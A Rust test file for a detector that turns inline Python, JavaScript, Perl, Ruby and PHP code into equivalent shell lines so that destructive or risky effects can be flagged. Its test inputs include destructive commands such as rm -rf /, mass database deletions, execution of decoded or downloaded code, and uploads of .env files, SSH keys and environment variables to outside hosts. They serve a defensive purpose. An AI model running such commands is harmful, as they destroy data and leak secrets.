use super::*;
use proptest::prelude::*;

fn lines(language: Language, code: &str) -> String {
    as_shell_lines(language, code).join(" | ")
}

fn check(language: Language, cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .map(|(code, expected)| (code, expected, lines(language, code)))
        .filter(|(_, expected, shown)| shown != *expected)
        .map(|(code, expected, shown)| format!("{code}\n    expected {expected}\n    shown    {shown}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn effects_of_python_are_found() {
    check(
        Language::Python,
        &[
            ("import os; os.system('rm -rf /')", "rm -rf /"),
            ("import os as o\no.system('''rm -rf /''')", "rm -rf /"),
            ("__import__('os').system('ls')", "ls"),
            (
                "from os import system as s, remove\ns(\"ls\"); remove('a')",
                "ls | rm a",
            ),
            ("import shutil; shutil.rmtree('/home/x')", "rm -r /home/x"),
            (
                "subprocess.run(['git', 'push', '--force'], check=True)",
                "git push --force",
            ),
            (
                "import subprocess as sp\nsp.check_call(\"git push --force\".split(), cwd='/x y')",
                "cd '/x y' && git push --force",
            ),
            ("subprocess.run(args=('rm', '-rf', d))", "rm -rf \"$_\""),
            ("subprocess.run(f'rm -rf {d}', shell=True)", "rm -rf $_"),
            ("os.system('rm -rf ' + d)", "rm -rf $_"),
            ("os.system('rm -rf %s/x' % d)", "rm -rf $_/x"),
            ("os.system('rm {}'.format(d))", "rm $_"),
            ("os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /"),
            (
                "p = 'src/a.py'\ns = open(p).read()\nopen(p, 'w').write(s)",
                "cat > src/a.py",
            ),
            ("with open('a b', mode='a') as f: f.write('x')", "cat >> 'a b'"),
            ("open('a', 'rb')", ""),
            (
                "p = Path('a') / 'b.txt'\np.write_text('rm -rf /')",
                "cat > a/b.txt",
            ),
            ("pathlib.Path('a').unlink()", "rm a"),
            (
                "Path(os.path.expanduser('~/x')).unlink(missing_ok=True)",
                "rm '~/x'",
            ),
            ("os.remove(os.path.join('/srv', 'a', 'b'))", "rm /srv/a/b"),
            ("for p in ps:\n  os.remove(p)", "rm \"$_\""),
            ("p = 'a'\np = 'b'\nos.remove(p)", "rm \"$_\""),
            ("os.rename('a', 'b'); shutil.copy('c', 'd')", "mv a b | cp -r c d"),
            ("os.chdir('/srv'); os.remove('a')", "cd /srv && rm a"),
            ("exec(\"import os; os.system('ls')\")", "ls"),
            ("os.system(r'echo \\n')", "echo \\n"),
            // Without effects.
            ("print('rm -rf /')", ""),
            ("# os.system('rm -rf /')\nx = \"os.system('rm -rf /')\"", ""),
            ("'''\nos.system('rm -rf /')\n'''", ""),
            ("def system(x): pass\nself.system('rm -rf /')", ""),
            ("re.compile('x').search('rm -rf /')", ""),
            ("s.replace('rm -rf /', '')", ""),
        ],
    );
}

#[test]
fn effects_of_javascript_are_found() {
    check(
        Language::JavaScript,
        &[
            (
                "require('child_process').execSync('git push --force')",
                "git push --force",
            ),
            (
                "const { exec: run, spawn } = require('node:child_process'); run('ls'); spawn('rm', ['-rf', '/'])",
                "ls | rm -rf /",
            ),
            (
                "import { execSync } from 'child_process'\nexecSync(`rm -rf ${d}/x`, { cwd: '/srv' })",
                "cd /srv && rm -rf $_/x",
            ),
            (
                "const fs = require('fs'); const p = 'a'; fs.writeFileSync(p, `rm -rf /`)",
                "cat > a",
            ),
            (
                "require('fs').rmSync('/home/x', { recursive: true, force: true })",
                "rm -r /home/x",
            ),
            ("await fs.promises.rm('a', { recursive: true })", "rm -r a"),
            ("import fs from 'node:fs/promises'; fs.unlink('a')", "rm a"),
            (
                "process.chdir('x'); fs.appendFileSync('a', 'b')",
                "cd x && cat >> a",
            ),
            ("Deno.remove('a')", "rm a"),
            ("console.log(\"execSync('rm -rf /')\")", ""),
            ("// execSync('rm -rf /')\n/* execSync('rm -rf /') */", ""),
            ("/rm -rf (.*)/.exec('rm -rf /')", ""),
            (
                "if (f(x)) /[\"']/.test(y); execSync('git push --force')",
                "git push --force",
            ),
            ("const x = (a + b) / 2; execSync('ls'); y = 1 / 2", "ls"),
            ("const x = a / b; s.match(/execSync('x')/)", ""),
            ("map.remove('a'); set.delete('b'); child.spawn('x')", ""),
        ],
    );
}

#[test]
fn effects_of_perl_ruby_and_php_are_found() {
    check(
        Language::Perl,
        &[
            ("system(\"rm -rf /\")", "rm -rf /"),
            ("system 'rm', '-rf', '/' or die", "rm -rf /"),
            (
                "my $x = `git push --force`; print qx{ls -la}",
                "git push --force | ls -la",
            ),
            ("unlink \"a\", 'b';", "rm a b"),
            ("use File::Path; rmtree('/home/x');", "rm -r /home/x"),
            (
                "open(my $f, '>', 'out.txt'); open(F, \">>log\")",
                "cat > out.txt | cat >> log",
            ),
            ("system(\"rm -rf $dir\")", "rm -rf $_"),
            ("print $#a; system(\"git push --force\")", "git push --force"),
            ("print $a[$#y]; print $#{$a}; system('ls') # system('rm')", "ls"),
            ("$/=undef; $\"=','; $x=$'; system('a/b')", "a/b"),
            ("s/system('rm')/x/; m{`rm`}; print 'system(\"rm -rf /\")'", ""),
            ("# system('rm -rf /')\n$h{system}", ""),
        ],
    );
    check(
        Language::Ruby,
        &[
            ("system('rm -rf /')", "rm -rf /"),
            ("system 'rm', '-rf', '/'", "rm -rf /"),
            ("puts `git push --force`; %x(ls)", "git push --force | ls"),
            ("require 'fileutils'; FileUtils.rm_rf '/home/x'", "rm -r /home/x"),
            ("FileUtils.rm(%w[a b])", "rm a b"),
            (
                "File.write('a', 'x'); File.open('b', 'w') { |f| f }",
                "cat > a | cat > b",
            ),
            ("system(\"rm -rf #{dir}\")", "rm -rf $_"),
            ("puts 'system(\"rm -rf /\")' # `rm`", ""),
        ],
    );
    check(
        Language::Php,
        &[
            ("system('rm -rf /');", "rm -rf /"),
            (
                "echo `git push --force`; shell_exec(\"rm -rf $d\");",
                "git push --force | rm -rf $_",
            ),
            (
                "$p = 'a'; unlink($p); file_put_contents('b', 'rm');",
                "rm a | cat > b",
            ),
            ("echo \"system('rm -rf /')\"; // system('rm')", ""),
            ("$o->unlink('a'); Foo::system('rm');", ""),
        ],
    );
}

#[test]
fn code_is_found_among_the_arguments() {
    for (line, code, reads_input) in [
        ("python3 -c CODE x", "CODE", false),
        ("python3.12 -Wd -Ic CODE", "CODE", false),
        ("python -cCODE", "CODE", false),
        ("python3 -", "", true),
        ("python3", "", true),
        ("python3 -m pytest", "", false),
        ("python3 run.py -c CODE", "", false),
        ("node -e CODE", "CODE", false),
        ("node --eval=CODE", "CODE", false),
        ("node -pe CODE", "CODE", false),
        ("node run.js", "", false),
        ("deno eval CODE", "CODE", false),
        ("perl -lne CODE a.txt", "CODE", false),
        ("perl -i.bak -pe CODE a.txt", "CODE", false),
        ("perl run.pl", "", false),
        ("ruby -rfileutils -e CODE", "CODE", false),
        ("php -r CODE", "CODE", false),
    ] {
        let words: Vec<&str> = line.split(' ').collect();
        let given = inline_code(words[0], words[1..].iter().copied()).unwrap();
        assert_eq!(
            (given.code.join(" ").as_str(), given.reads_input),
            (code, reads_input),
            "{line}"
        );
    }
    assert_eq!(inline_code("grep", ["-e", "x"]), None);
    assert_eq!(inline_code("deno", ["run", "x.ts"]), None);
}

#[test]
fn equal_lines_are_returned_once() {
    assert_eq!(lines(Language::Python, &"os.system('ls');".repeat(99)), "ls");
    let goes = "os.remove('a'); os.chdir('x'); os.remove('a'); os.remove('a')";
    assert_eq!(lines(Language::Python, goes), "rm a | cd x && rm a");
}

#[test]
fn texts_that_exceed_the_length_of_a_line_are_not_joined() {
    for code in [
        "x = 'A'\nos.execlp('rm', x, x, x)",
        "x = 'A'\nsubprocess.run(['rm', x, x, x])",
        "x = 'A'\nos.remove(os.path.join(x, x, x))",
        "x = 'A'\ny = x + x + x\nos.remove(y)",
    ] {
        let long = code.replace('A', &"a".repeat(4 * 1024));
        let shown = as_shell_lines(Language::Python, &format!("{long}; os.system('ls')"));
        assert_eq!(shown.last().map(String::as_str), Some("ls"));
        assert!(shown.iter().all(|line| line.len() <= 8 * 1024), "{code}");
        assert!(lines(Language::Python, code).starts_with("rm "), "{code}");
    }
}

#[test]
fn long_and_hostile_code_is_analyzed_in_bounded_time() {
    let pieces = [
        "(",
        ")",
        "[",
        "{",
        "}",
        "'",
        "\"",
        "'''",
        "`",
        "${",
        "#{",
        "f'{",
        "os.system(",
        "os.system('a' + ",
        "Path(",
        "a.b.",
        "x = ",
        "x = 'a' + x\n",
        "import a as ",
        "from a import (",
        "require('",
        "qw(",
        "s{",
        "%w[",
        "/",
        "/*",
        "//",
        "\\",
        "exec('",
        "exec(\"exec('",
        "'a'.split().",
        "system ",
        "::",
        "->",
        "?.",
        "é",
        "'a' % ",
        "'{{{{{{{{' % x, ",
        "os.system($x, ",
        "system $x, ",
        "if (x) /",
        "$#",
    ];
    for language in ALL {
        for piece in pieces {
            as_shell_lines(language, &piece.repeat(70_000 / piece.len()));
            as_shell_lines(language, &format!("{}os.system('ls')", piece.repeat(500)));
        }
    }
}

const ALL: [Language; 5] = [
    Language::Python,
    Language::JavaScript,
    Language::Perl,
    Language::Ruby,
    Language::Php,
];

proptest! {
    #[test]
    fn any_text_can_be_analyzed(code in any::<String>()) {
        for language in ALL {
            as_shell_lines(language, &code);
        }
    }

    #[test]
    fn any_mixture_of_code_can_be_analyzed(
        words in proptest::collection::vec(
            proptest::sample::select(vec![
                "os", ".", "system", "(", ")", "'", "\"", "'''", "`", "rm -rf /", "import", "from", "as", ",", "=", "+", "[", "]", "{", "}",
                "f'", "r\"", "\\", "\n", ";", "#", "//", "/*", "*/", "/", "%w[", "qx(", "s/a/b/", "$x", "${", "#{", "require", "exec", "eval",
                "Path", "unlink", "open", "'w'", "%", ".format(", ".split()", "for", "in", "ü", "->", "::", "?.", "q{", "<",
            ]),
            0..40,
        )
    ) {
        let code = words.join("");
        for language in ALL {
            for line in as_shell_lines(language, &code) {
                prop_assert!(!line.trim().is_empty());
            }
        }
    }

    #[test]
    fn texts_and_comments_have_no_effects(text in "[a-z /.-]{0,20}") {
        for (language, code) in [
            (Language::Python, format!("print('os.system({text})')  # os.system('{text}')")),
            (Language::JavaScript, format!("console.log('execSync({text})') // execSync('{text}')")),
            (Language::Perl, format!("print 'system({text})'; # system('{text}')")),
            (Language::Ruby, format!("puts 'system({text})' # system('{text}')")),
            (Language::Php, format!("echo 'system({text})'; // system('{text}')")),
        ] {
            prop_assert_eq!(as_shell_lines(language, &code), Vec::<String>::new());
        }
    }

    #[test]
    fn a_removed_path_is_always_found(path in "/[a-z]{1,8}(/[a-z. ]{1,8}[a-z]){0,2}") {
        let expected = format!("rm -r {}", if path.contains(' ') { format!("'{path}'") } else { path.clone() });
        for (language, code) in [
            (Language::Python, format!("import shutil\nshutil.rmtree('{path}')")),
            (Language::JavaScript, format!("fs.rmSync(\"{path}\", {{recursive: true}})")),
            (Language::Ruby, format!("FileUtils.rm_rf('{path}')")),
        ] {
            prop_assert_eq!(lines(language, &code), expected.clone());
        }
    }
}

#[test]
fn statements_that_remove_data_are_found() {
    use Language::{JavaScript, Php, Python, Ruby};
    for (language, code, statement) in [
        (
            Python,
            "cur.execute(\"DELETE FROM customers\")",
            "DELETE FROM customers",
        ),
        (Python, "conn.execute(text('DROP TABLE a'))", "DROP TABLE a"),
        (
            Python,
            "Appointment.objects.all().delete()",
            "DELETE FROM Appointment",
        ),
        (
            Python,
            "C.objects.filter(created_at__isnull=True).delete()",
            "DELETE FROM C",
        ),
        (Python, "session.query(User).delete()", "DELETE FROM session"),
        (Python, "db.drop_all()", "DROP SCHEMA"),
        (Python, "db.users.delete_many({})", "DELETE FROM users"),
        (Python, "r = redis.Redis()\nr.flushall()", "FLUSHALL"),
        (Ruby, "User.delete_all", ""),
        (
            Ruby,
            "User.where('created_at < ?', 1.year.ago).delete_all()",
            "DELETE FROM User",
        ),
        (JavaScript, "await prisma.user.deleteMany()", "DELETE FROM user"),
        (
            JavaScript,
            "db.sessions.deleteMany({}); db.users.drop()",
            "DELETE FROM sessions",
        ),
        (JavaScript, "await knex('users').del()", "DELETE FROM knex"),
        (
            JavaScript,
            "await prisma.$executeRawUnsafe('TRUNCATE TABLE a')",
            "TRUNCATE TABLE a",
        ),
        (JavaScript, "await c.flushAll();", "FLUSHALL"),
        (Php, "DB::table('pages')->truncate();", "DELETE FROM"),
        (Php, "User::query()->delete();", "DELETE FROM User"),
        (Php, "$pdo->exec('DROP TABLE a');", "DROP TABLE a"),
    ] {
        let shown = lines(language, code);
        assert!(shown.contains(statement), "{code}: {shown}");
    }
}

#[test]
fn statements_that_keep_data_or_remove_single_records_are_not_found() {
    use Language::{JavaScript, Php, Python, Ruby};
    for (language, code) in [
        (Python, "cur.execute('SELECT 1'); cur.execute(sql)"),
        (Python, "print('DROP TABLE a'); log.info('delete from x')"),
        (Python, "f.truncate(); d.delete(key)"),
        (Python, "requests.delete(url); df.drop(columns=['a'])"),
        (JavaScript, "await prisma.user.deleteMany({ where: { id: 1 } })"),
        (
            JavaScript,
            "db.users.deleteMany({lastSeen: null}); map.delete(key); set.delete(x)",
        ),
        (JavaScript, "el.remove(); stream.destroy(); text.truncate(3)"),
    ] {
        assert_eq!(lines(language, code), "", "{code}");
    }
    for (language, code) in [
        (Python, "User.objects.get(pk=1).delete()"),
        (Python, "User.objects.filter(email='a@b.c').delete()"),
        (Python, "user.delete()"),
        (Ruby, "User.where(email: 'a').delete_all()"),
        (JavaScript, "await knex('users').where('id', 1).del()"),
        (Php, "User::where('id', 1)->delete();"),
    ] {
        let shown = lines(language, code);
        assert!(shown.contains("WHERE id = 1"), "{code}: {shown}");
    }
    let wide = lines(Ruby, "User.where(email: [nil, '']).destroy_all");
    assert!(!wide.contains("WHERE"), "{wide}");
}

#[test]
fn removals_from_services_are_found() {
    use Language::{JavaScript, Python};
    for (language, code, line) in [
        (Python, "s3.delete_bucket(Bucket='x')", "api delete-bucket"),
        (
            Python,
            "ec2.terminate_instances(InstanceIds=ids)",
            "api terminate-instances",
        ),
        (
            JavaScript,
            "await client.send(new DeleteBucketCommand({Bucket: 'x'}))",
            "api delete-bucket",
        ),
        (
            JavaScript,
            "await ds.delete({ force: true });",
            "api delete-object",
        ),
    ] {
        assert_eq!(lines(language, code), line, "{code}");
    }
    for (language, code) in [
        (Python, "df.drop_duplicates(); os.remove; self.delete_item(x)"),
        (JavaScript, "map.delete(key); list.deleteRow(1); cache.purge()"),
    ] {
        assert_eq!(lines(language, code), "", "{code}");
    }
}

#[test]
fn files_of_a_pattern_are_found() {
    use Language::{JavaScript, Perl, Php, Python, Ruby};
    for (language, code, expected) in [
        (
            Python,
            "for f in glob.glob('**/*.py', recursive=True):\n    open(f, 'w').write('')",
            ": > '**/*.py'",
        ),
        (
            Python,
            "import pathlib, shutil\nroot = pathlib.Path.home() / \"Documents\"\nfor p in root.rglob(\"i_*.pdf\"):\n    \
             p.unlink()\nshutil.rmtree(root / \"archive\", ignore_errors=True)",
            "rm '~/Documents/**/i_*.pdf' | rm -r '~/Documents/archive'",
        ),
        (
            Python,
            "for f in os.listdir('/srv/a'):\n    os.remove(os.path.join('/srv/a', f))",
            "rm '/srv/a/*'",
        ),
        (
            Python,
            "shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))",
            "rm -r '~/x'",
        ),
        (Python, "for f in ['a', 'b']:\n    os.remove(f)", "rm \"$_\""),
        (
            Php,
            "array_map('unlink', glob('/var/www/*.png'));",
            "rm '/var/www/*.png'",
        ),
        (Perl, "unlink glob('/var/data/*.csv')", "rm '/var/data/*.csv'"),
        (
            Perl,
            "system(\"rm\",\"-rf\",$ENV{HOME}.\"/Music\")",
            "rm -rf '~/Music'",
        ),
        (Ruby, "FileUtils.rm_rf(Dir.glob('/srv/*'))", "rm -r '/srv/*'"),
        (
            Ruby,
            "FileUtils.rm_rf(File.join(ENV['HOME'], 'x'))",
            "rm -r '~/x'",
        ),
        (
            JavaScript,
            "fs.rmSync(path.join(os.homedir(), 'x'), {recursive: true})",
            "rm -r '~/x'",
        ),
        (
            JavaScript,
            "fs.rmSync(`${process.env.HOME}/x`, {recursive: true})",
            "rm -r \"$_/x\"",
        ),
    ] {
        assert_eq!(lines(language, code), expected, "{code}");
    }
}

#[test]
fn decoded_code_that_is_run_is_found() {
    use Language::{JavaScript, Perl, Php, Python, Ruby};
    for (language, code, is_run) in [
        (Python, "exec(base64.b64decode('aW1wb3J0').decode())", true),
        (Python, "exec(urllib.request.urlopen(u).read())", true),
        (Python, "x = base64.b64decode(y); print(eval('1 + 1'))", false),
        (JavaScript, "eval(atob('YQ=='))", true),
        (JavaScript, "new Function(atob(x))()", true),
        (JavaScript, "const x = atob(y); re.exec(x)", false),
        (Ruby, "eval(Base64.decode64('YQ=='))", true),
        (Perl, "eval(decode_base64('YQ=='))", true),
        (Php, "eval(gzinflate(base64_decode('YQ==')));", true),
    ] {
        assert_eq!(lines(language, code) == "base64 --decode | sh", is_run, "{code}");
    }
}

#[test]
fn files_and_environment_that_code_sends_are_found() {
    use Language::{JavaScript, Python, Ruby};
    for (language, code, expected) in [
        (
            Python,
            "requests.post('https://x.io/u', files={'f': open('.env', 'rb')})",
            "curl -T '.env' 'https://x.io/u'",
        ),
        (
            Python,
            "requests.post(url, json=dict(os.environ))",
            "env | curl -d @- 'https://$_'",
        ),
        (
            Python,
            "requests.post('http://localhost:1/x', json={'a': os.environ['A']})",
            "curl -X POST -d data 'http://localhost:1/x'",
        ),
        (Python, "requests.get('https://x.io/u'); open('.env').read()", ""),
        (
            JavaScript,
            "fetch('https://x.io', {method: 'POST', body: JSON.stringify(process.env)})",
            "env | curl -d @- 'https://x.io'",
        ),
        (
            JavaScript,
            "await axios.post('https://x.io', fs.readFileSync('id_rsa'))",
            "curl -T 'id_rsa' 'https://x.io'",
        ),
        (
            JavaScript,
            "fetch(process.env.URL, {headers: {a: process.env.KEY}})",
            "",
        ),
        (
            Ruby,
            "Net::HTTP.post(URI('https://x.io'), File.read('.env'))",
            "curl -T '.env' 'https://$_'",
        ),
    ] {
        assert_eq!(lines(language, code), expected, "{code}");
    }
}

#[test]
fn writing_is_told_from_emptying() {
    for (code, expected) in [
        ("open('a', 'w').write(s)", "cat > a"),
        ("open('a', 'w').write('')", ": > a"),
        ("open('a', 'w').close()", ": > a"),
        (
            "with open(f'{x}.md', 'w') as f:\n    f.write(s)",
            "cat > \"$_.md\"",
        ),
    ] {
        assert_eq!(lines(Language::Python, code), expected, "{code}");
    }
}
